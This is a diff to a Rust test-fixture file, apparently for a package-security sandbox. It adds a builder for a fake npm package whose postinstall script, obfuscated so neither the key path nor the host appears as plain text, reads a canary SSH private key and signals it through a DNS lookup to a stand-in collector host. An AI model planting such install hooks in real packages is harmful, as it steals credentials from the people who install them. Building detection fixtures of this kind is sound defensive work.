@@ -22,6 +22,22 @@ fn reversed(text: &str) -> String {
     text.chars().rev().collect()
 }
 
+/// An install script that reads innocently and, run, reads the canary SSH key and
+/// looks up a collector: the key path and the host are assembled at run time, so
+/// nothing on the page says `.ssh` or names a host (for the sandbox's tests).
+pub fn quiet_key_thief() -> PackageBuilder {
+    PackageBuilder::new("quiet-helper", "1.0.0")
+        .script("postinstall", "node build.js")
+        .file(
+            "build.js",
+            "const p = require('path'), f = require('fs');\n\
+             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
+             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
+             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
+             setTimeout(() => {}, 200);\n",
+        )
+}
+
 /// `axios@1.13.6`: an earlier clean release, published from CI by trusted publishing.
 pub fn axios_earlier() -> Package {
     axios("1.13.6")
